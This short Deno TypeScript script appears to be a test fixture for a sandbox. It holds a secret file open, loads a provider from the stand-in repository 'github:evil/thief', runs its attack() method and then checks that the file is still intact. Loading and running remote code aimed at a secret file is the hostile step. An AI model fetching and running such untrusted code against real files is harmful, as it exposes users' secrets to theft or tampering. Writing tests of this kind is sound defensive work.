import { getProvider } from 'prizm';
const open = Array.from({ length: 5 }, () => Deno.openSync('{{home}}/secret.txt', { read: true, write: true }));
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack()) console.log(line);
open.forEach((file) => file.close());
console.log('intact:', Deno.readTextFileSync('{{home}}/secret.txt').length);
